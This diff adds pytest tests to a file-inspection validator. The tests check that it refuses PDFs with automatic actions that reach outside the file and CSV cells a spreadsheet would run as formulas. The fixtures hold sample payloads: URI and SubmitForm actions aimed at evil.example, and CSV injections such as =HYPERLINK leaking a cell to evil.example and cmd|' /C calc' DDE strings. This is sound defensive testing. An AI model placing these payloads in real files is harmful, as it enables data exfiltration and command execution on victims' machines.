@@ -15,7 +15,14 @@ import pytest
 from PIL import Image
 from pypdf import PdfWriter
 from pypdf.actions import JavaScript
-from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+from pypdf.annotations import Link
+from pypdf.generic import (
+    ArrayObject,
+    DictionaryObject,
+    NameObject,
+    NumberObject,
+    TextStringObject,
+)
 
 from isms.files.inspection import InspectedFile, UnacceptableFileError, inspect_file
 
@@ -277,6 +284,126 @@ def test_it_accepts_a_pdf_with_a_plain_open_action(tmp_path: Path) -> None:
     assert inspect_file(write(tmp_path, pdf_bytes(writer)), filename="p.pdf").extension == "pdf"
 
 
+def action(kind: str, **entries: Any) -> DictionaryObject:
+    """A PDF action dictionary: ``/S`` names its kind, ``entries`` its other keys."""
+    return DictionaryObject(
+        {NameObject("/S"): NameObject(kind)}
+        | {NameObject(f"/{key}"): value for key, value in entries.items()}
+    )
+
+
+# What each action that reaches outside the file needs beside its /S.
+REACHING_OUT: dict[str, dict[str, Any]] = {
+    "URI": {"URI": TextStringObject("https://evil.example/opened?doc=1")},
+    "SubmitForm": {"F": TextStringObject("https://evil.example/collect")},
+    "ImportData": {"F": TextStringObject("\\\\203.0.113.9\\share\\x.fdf")},
+    "GoToR": {"F": TextStringObject("https://evil.example/other.pdf"), "D": ArrayObject()},
+}
+
+
+def reaching_out(kind: str) -> DictionaryObject:
+    return action(f"/{kind}", **REACHING_OUT[kind])
+
+
+@pytest.mark.parametrize("kind", REACHING_OUT)
+def test_it_refuses_an_open_action_that_reaches_outside_the_file(tmp_path: Path, kind: str) -> None:
+    writer = blank_writer()
+    writer._root_object[NameObject("/OpenAction")] = writer._add_object(reaching_out(kind))
+
+    message = assert_refused(
+        write(tmp_path, pdf_bytes(writer)), "policy.pdf", "pdf_automatic_action"
+    )
+
+    assert f"by itself when it is opened or viewed (an automatic {kind} action)" in message
+
+
+def test_it_names_what_an_automatic_uri_action_does(tmp_path: Path) -> None:
+    writer = blank_writer()
+    writer._root_object[NameObject("/OpenAction")] = reaching_out("URI")
+
+    message = assert_refused(
+        write(tmp_path, pdf_bytes(writer)), "policy.pdf", "pdf_automatic_action"
+    )
+
+    assert message == (
+        "policy.pdf opens a web address by itself when it is opened or viewed (an automatic URI "
+        "action), which evidence may not; save it again without it (for example by printing it "
+        "to a new PDF)."
+    )
+
+
+@pytest.mark.parametrize("where", ["catalog", "page", "annotation"])
+def test_it_refuses_additional_actions_that_reach_outside_the_file(
+    tmp_path: Path, where: str
+) -> None:
+    writer = blank_writer()
+    triggers = DictionaryObject({NameObject("/WC"): writer._add_object(reaching_out("SubmitForm"))})
+    if where == "catalog":
+        writer._root_object[NameObject("/AA")] = triggers
+    elif where == "page":
+        writer.pages[0][NameObject("/AA")] = writer._add_object(triggers)
+    else:
+        widget = DictionaryObject(
+            {
+                NameObject("/Type"): NameObject("/Annot"),
+                NameObject("/Subtype"): NameObject("/Widget"),
+                NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
+                NameObject("/AA"): DictionaryObject({NameObject("/PO"): reaching_out("URI")}),
+            }
+        )
+        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(widget)])
+
+    assert_refused(write(tmp_path, pdf_bytes(writer)), "policy.pdf", "pdf_automatic_action")
+
+
+def test_it_follows_an_open_action_to_the_actions_it_chains(tmp_path: Path) -> None:
+    writer = blank_writer()
+    uri = writer._add_object(reaching_out("URI"))
+    go_to = action("/GoTo", D=ArrayObject([writer.pages[0].indirect_reference]), Next=uri)
+    writer._root_object[NameObject("/OpenAction")] = writer._add_object(go_to)
+
+    assert_refused(write(tmp_path, pdf_bytes(writer)), "policy.pdf", "pdf_automatic_action")
+
+
+def test_it_refuses_an_open_action_that_chains_to_itself(tmp_path: Path) -> None:
+    writer = blank_writer()
+    go_to = writer._add_object(action("/GoTo", D=ArrayObject()))
+    go_to.get_object()[NameObject("/Next")] = go_to
+    writer._root_object[NameObject("/OpenAction")] = go_to
+
+    assert_refused(write(tmp_path, pdf_bytes(writer)), "policy.pdf", "malformed")
+
+
+def test_it_refuses_javascript_in_the_names_tree(tmp_path: Path) -> None:
+    writer = blank_writer()
+    script = writer._add_object(action("/JavaScript", JS=TextStringObject("app.alert(1)")))
+    names = DictionaryObject(
+        {NameObject("/Names"): ArrayObject([TextStringObject("start"), script])}
+    )
+    writer._root_object[NameObject("/Names")] = DictionaryObject(
+        {NameObject("/JavaScript"): writer._add_object(names)}
+    )
+
+    message = assert_refused(write(tmp_path, pdf_bytes(writer)), "policy.pdf", "pdf_active_content")
+
+    assert "JavaScript" in message
+
+
+def test_it_accepts_an_open_action_that_is_a_page_of_the_document(tmp_path: Path) -> None:
+    writer = blank_writer()
+    page = writer.pages[0].indirect_reference
+    writer._root_object[NameObject("/OpenAction")] = ArrayObject([page, NameObject("/Fit")])
+
+    assert inspect_file(write(tmp_path, pdf_bytes(writer)), filename="p.pdf").extension == "pdf"
+
+
+def test_it_accepts_a_link_the_reader_clicks_to_the_web(tmp_path: Path) -> None:
+    writer = blank_writer()
+    writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url="https://www.iso.org/"))
+
+    assert inspect_file(write(tmp_path, pdf_bytes(writer)), filename="p.pdf").extension == "pdf"
+
+
 def test_it_refuses_a_pdf_with_a_zip_appended(tmp_path: Path) -> None:
     data = pdf_bytes() + zip_bytes({"run.js": b"alert(1)"})
 
@@ -417,3 +544,66 @@ def test_it_refuses_a_csv_line_too_long_to_read_safely(tmp_path: Path) -> None:
     message = assert_refused(write(tmp_path, data), "controls.csv", "malformed")
 
     assert "line over 1 MB" in message
+
+
+# CSV formulas (OWASP "CSV injection") -------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        b'=HYPERLINK("https://evil.example/?"&A1,"report")',
+        b"+cmd|' /C calc'!A0",
+        b"-2+3+cmd|' /C calc'!A0",
+        b"@SUM(1+9)*cmd|' /C calc'!A0",
+        b'"\t=1+1"',
+        b'"\r=1+1"',
+        b'"=WEBSERVICE(""https://evil.example"")"',
+        b"- none",
+    ],
+)
+def test_it_refuses_a_csv_cell_that_a_spreadsheet_runs_as_a_formula(
+    tmp_path: Path, cell: bytes
+) -> None:
+    data = b"host,finding\nweb-1,none\ndb-1," + cell + b"\n"
+
+    message = assert_refused(write(tmp_path, data), "hosts.csv", "csv_formula")
+
+    assert message == (
+        "hosts.csv has a cell in row 3 that a spreadsheet would run as a formula (it starts with "
+        "=, +, -, @ or a tab), which can run commands or send data away when the file is opened; "
+        "export it with such cells as text, or as PDF."
+    )
+
+
+def test_it_reads_a_csv_to_its_end_for_formulas(tmp_path: Path) -> None:
+    data = b"host,finding\n" + b"web,none\n" * 50_000 + b"db,=1+1\n"
+
+    message = assert_refused(write(tmp_path, data), "hosts.csv", "csv_formula")
+
+    assert "in row 50,002 " in message
+
+
+@pytest.mark.parametrize("separator", [b";", b"\t"])
+def test_it_finds_a_formula_behind_another_list_separator(tmp_path: Path, separator: bytes) -> None:
+    # Norwegian Excel splits a .csv on semicolons: "web;=1+1" is two cells there, one a formula.
+    data = b"host" + separator + b"finding\nweb" + separator + b"=1+1\n"
+
+    assert_refused(write(tmp_path, data), "hosts.csv", "csv_formula")
+
+
+def test_it_accepts_numbers_signs_and_formulas_inside_text(tmp_path: Path) -> None:
+    data = (
+        b"host,delta,phone,note,empty\n"
+        b"web-1,-5,+47 22 33 44 55,a = b,\n"
+        b'db-1,+1.5e3,-,"says ""=1+1"" in the middle",-12%\n'
+        b"mail,-0.25,+,user@vendela.example,\n"
+    )
+
+    assert inspect_file(write(tmp_path, data), filename="hosts.csv").extension == "csv"
+
+
+def test_it_leaves_formulas_in_plain_text_alone(tmp_path: Path) -> None:
+    data = b"=1+1\n@here see the CSV\n"
+
+    assert inspect_file(write(tmp_path, data), filename="notes.txt").extension == "txt"
